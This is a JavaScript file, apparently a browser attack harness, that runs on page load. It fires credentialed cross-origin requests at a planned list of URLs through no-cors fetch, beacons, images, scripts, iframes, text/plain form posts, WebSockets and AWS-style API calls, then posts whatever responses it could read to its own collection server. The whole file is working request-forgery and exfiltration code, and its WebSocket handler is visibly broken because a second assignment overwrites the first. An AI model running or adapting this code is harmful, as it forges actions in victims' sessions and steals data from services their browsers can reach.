// Sends whatever a page can send, by every way that a page has, and tells its own server what it could read of it.
const { name, calls, sockets, told, ways, every } = PLAN;
const read = [];

const wait = (element, add = (one) => document.body.append(one)) => new Promise((done) => {
  element.onload = element.onerror = done;
  add(element);
});

const keep = async (what, request) => {
  try {
    const answer = await request;
    const text = await answer.text();
    if (answer.type !== 'opaque') read.push([what, answer.status, text]);
  } catch { /* the browser lets the page have nothing */ }
};

const WAYS = {
  // what needs nobody's leave: the answer cannot be read
  'no-cors': ({ method, url, body }) => Promise.all(['GET', 'POST'].map((simple) => keep(`no-cors ${url}`, fetch(url, {
    method: simple, mode: 'no-cors', credentials: 'include',
    ...(simple === 'POST' ? { body: new Blob([body]) } : {}),
  })))),
  typed: ({ method, url, body, type }) => method === 'GET' ? null : keep(`typed ${url}`, fetch(url, {
    method: 'POST', mode: 'no-cors', body, headers: { 'Content-Type': type.includes('urlencoded') ? type : 'text/plain' },
  })),
  beacon: ({ method, url, body }) => method === 'GET' ? null : navigator.sendBeacon(url, body),
  // what a program would send: across origins a browser asks first
  fetch: ({ method, url, body, type }) => keep(`fetch ${method} ${url}`, fetch(url, {
    method, headers: { 'Content-Type': type, 'x-amz-access-token': 'Atza|any', 'X-Amz-Target': 'AmazonSQS.ListQueues' },
    ...(method === 'GET' ? {} : { body }),
  })),
  image: ({ method, url }) => method === 'GET' ? wait(Object.assign(new Image(), { src: url })) : null,
  script: ({ method, url }) => method === 'GET' ? wait(Object.assign(document.createElement('script'), { src: url })) : null,
  frame: ({ method, url, shown }) => shown ? wait(Object.assign(document.createElement('iframe'), { src: url })) : null,
  form: ({ method, url, body }) => {
    if (method === 'GET') return null;
    const target = `to-${Math.random()}`;
    const frame = Object.assign(document.createElement('iframe'), { name: target });
    const form = Object.assign(document.createElement('form'), { action: url, method: 'POST', enctype: 'text/plain', target });
    form.append(Object.assign(document.createElement('input'), { name: body, value: '' }));
    document.body.append(form);
    document.body.append(frame);
    return wait(frame, () => form.submit());
  },
};

const connect = (url) => new Promise((done) => {
  const socket = new WebSocket(url);
  socket.onopen = () => read.push([`websocket ${url}`, 101, '']);
  socket.onopen = socket.onclose = done;
});

const attack = async () => {
  // the first ways are taken for each call, the others for some calls
  const chosen = ways.flatMap((way, at) => calls.filter((call, number) => at < 2 || call.every_way || (number + at) % every === 0)
    .map((call) => () => WAYS[way](call)));
  const jobs = [...chosen, ...sockets.map((url) => () => connect(url))];
  await Promise.all(Array.from({ length: 12 }, async () => {
    while (jobs.length) await jobs.shift()();
  }));
  await fetch(`${told}?${name}`, { method: 'POST', mode: 'no-cors', body: JSON.stringify(read) });
};
addEventListener('load', attack);
